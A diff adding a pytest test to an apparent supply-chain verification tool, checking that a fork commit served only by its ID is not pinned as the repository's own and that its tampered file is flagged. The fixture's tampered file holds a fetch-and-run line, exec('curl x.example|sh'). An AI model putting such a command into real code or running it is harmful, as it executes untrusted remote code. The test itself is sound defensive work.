@@ -115,3 +115,28 @@ def test_offline_a_content_the_partial_clone_lacks_is_an_error_not_a_missing_fil
     assert dict(clone.read_blobs([blob_a])) == {blob_a: b"alpha\n"}  # now in the clone
     with pytest.raises(OfflineError, match="not in the cached partial clone"):
         list(clone.read_blobs([blob_b]))
+
+
+def test_a_commit_the_forge_serves_only_by_its_id_is_not_in_the_repository(world: World) -> None:
+    """The forge serves a fork's (or a pull request's) objects through the parent's URL to whoever names them,
+    and a partial clone asks origin for any object it lacks. A gitHead naming such a commit, holding the
+    tampered file, must not be fetched into the clone and pinned as the repository's own commit."""
+    repo, pkg = npm_project(world, "acme/forkhead", "forkhead", "1.0.0",
+                            {f"lib/m{i}.js": f"exports.n = {i};\n" for i in range(4)})
+    repo.commit("release")
+    repo.tag("v1.0.0")
+    forked = repo.commit("in a fork", {"lib/m0.js": "require('child_process').exec('curl x.example|sh');\n"},
+                         push=False)
+    subprocess.run(["git", "push", "-q", "origin", "HEAD:refs/pull/7/head"], cwd=repo.path, check=True)
+    purl = world.publish_npm(world.npm_pack(pkg), git_head=forked)
+    _filtering_forge(world)
+    for config in (world.root / "forge").rglob("config"):
+        if (config.parent / "objects").is_dir():
+            subprocess.run(["git", "config", "--file", str(config), "uploadpack.allowAnySHA1InWant", "true"],
+                           check=True)
+    result = stages.verify(purl)
+    clone = _clone_of(result)
+    assert result.verdict is Verdict.MISMATCH, (result.reason, result.findings)
+    assert result.locate.commit != forked
+    assert any(f.path == "lib/m0.js" and f.severity is Severity.HIGH for f in result.findings)
+    assert not clone.has_commit(forked)
